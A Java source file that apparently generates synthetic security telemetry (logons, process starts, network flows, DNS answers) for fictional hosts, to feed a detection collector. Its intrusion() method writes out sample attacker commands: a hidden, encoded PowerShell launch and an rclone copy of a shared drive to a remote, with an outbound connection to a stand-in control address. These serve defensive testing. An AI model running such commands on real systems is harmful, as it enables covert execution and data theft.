package bzh.vigie.collector.region;

import bzh.vigie.event.Account;
import bzh.vigie.event.Endpoint;
import bzh.vigie.event.Event;
import bzh.vigie.event.Event.AccountAction;
import bzh.vigie.event.Event.LogonAction;
import bzh.vigie.event.Event.LogonType;
import bzh.vigie.event.Observed;
import bzh.vigie.event.ProcessKey;
import bzh.vigie.event.ReasonCode;
import bzh.vigie.event.Sha256;
import bzh.vigie.event.WatchState;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalLong;

/** What agents tell of machines that are made up. */
final class SampleEvents {
    private static final String CONTROL = "198.51.100.23";

    private SampleEvents() {}

    /** So long, up to now, a source watched like this. */
    static Event coverage(
            Scene scene, SampleHost host, String source, Duration length, WatchState state, ReasonCode reason) {
        long to = scene.moment(host).wallMicros();
        long micros = length.toNanos() / 1_000;
        return new Event.Coverage(
                scene.moment(host),
                source,
                source,
                Optional.empty(),
                to - micros,
                to,
                micros,
                state,
                reason,
                "",
                40,
                0);
    }

    /** Somebody comes in, or fails to: at the screen, or over SSH where there is an address. */
    static Event logon(Scene scene, SampleHost host, Account account, LogonAction action, String address) {
        return new Event.Logon(
                scene.moment(host),
                host.windows() ? "windows.log.security" : "linux.auth-log",
                action,
                address.isEmpty() ? LogonType.INTERACTIVE : LogonType.SSH,
                account,
                Optional.empty(),
                address,
                "",
                address.isEmpty() ? "1" : "password",
                "",
                Observed.missed(Observed.Why.NOT_OFFERED),
                "");
    }

    /** Somebody made an account. */
    static Event created(Scene scene, SampleHost host, String name) {
        return new Event.AccountChange(
                scene.moment(host),
                host.source("log.security"),
                AccountAction.CREATED,
                new Account("S-1-5-21-11-22-33-1777", name),
                Optional.of(host.user()),
                Optional.empty(),
                "");
    }

    /** What a machine does on a day: some programs, connections and names. */
    static List<Event> programs(Scene scene, SampleHost host, int day) {
        List<Event> events = new ArrayList<>();
        String program = host.windows() ? "C:\\Program Files\\Navigo\\navigo.exe" : "/usr/sbin/nginx";
        ProcessKey parent = new ProcessKey("boot-" + host.number(), 700, 1);
        events.add(started(
                scene,
                host,
                parent,
                parent,
                host.windows() ? "C:\\Windows\\explorer.exe" : "/usr/lib/systemd/systemd",
                ""));
        ProcessKey key = new ProcessKey("boot-" + host.number(), 2_000 + day, 1_000L + day);
        events.add(started(scene, host, key, parent, program, program + " --profile dossier" + host.number() % 7));
        events.add(flow(scene, host, key, program, "192.0.2." + (10 + host.number() % 40), 443));
        events.add(new Event.DnsAnswer(
                scene.moment(host),
                host.source("dns"),
                Observed.known(key),
                Observed.known(program),
                "www" + day + ".example.org",
                "A",
                List.of("192.0.2." + (10 + host.number() % 40))));
        return events;
    }

    /** What the attacker did on a machine, for those who search. */
    static List<Event> intrusion(Scene scene, SampleHost host) {
        ProcessKey shell = new ProcessKey("boot-" + host.number(), 4_242, 77);
        ProcessKey parent = new ProcessKey("boot-" + host.number(), 700, 1);
        ProcessKey copy = new ProcessKey("boot-" + host.number(), 4_243, 78);
        String power = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        String program = "C:\\ProgramData\\upd\\rclone.exe";
        return List.of(
                started(
                        scene,
                        host,
                        shell,
                        parent,
                        power,
                        "powershell.exe -nop -w hidden -enc SQBFAFgAKABFAHgAZQBtAHAAbABlACkA"),
                started(scene, host, copy, shell, program, "rclone.exe copy D:\\Partage distant:depot --transfers 8"),
                flow(scene, host, copy, program, CONTROL, 443));
    }

    private static Event started(
            Scene scene, SampleHost host, ProcessKey key, ProcessKey parent, String image, String command) {
        return new Event.ProcessStarted(
                scene.moment(host),
                host.source("process"),
                key,
                Observed.known(parent),
                Observed.known(host.windows() ? "C:\\Windows\\explorer.exe" : "/usr/lib/systemd/systemd"),
                Observed.known(host.user()),
                Observed.known(image),
                Observed.known(command.isEmpty() ? image : command),
                Observed.known(Sha256.over(image.getBytes(StandardCharsets.UTF_8))),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.missed(Observed.Why.NOT_OFFERED),
                false);
    }

    private static Event flow(Scene scene, SampleHost host, ProcessKey key, String image, String address, int port) {
        return new Event.Flow(
                scene.moment(host),
                host.source("network"),
                Observed.known(key),
                Observed.known(image),
                Event.Transport.TCP,
                new Endpoint(InetAddress.ofLiteral("10.20.0." + (10 + host.number())), 49_152 + host.number()),
                new Endpoint(InetAddress.ofLiteral(address), port),
                Event.Direction.OUTBOUND,
                OptionalLong.of(12_000),
                OptionalLong.of(90_000),
                1,
                0);
    }
}
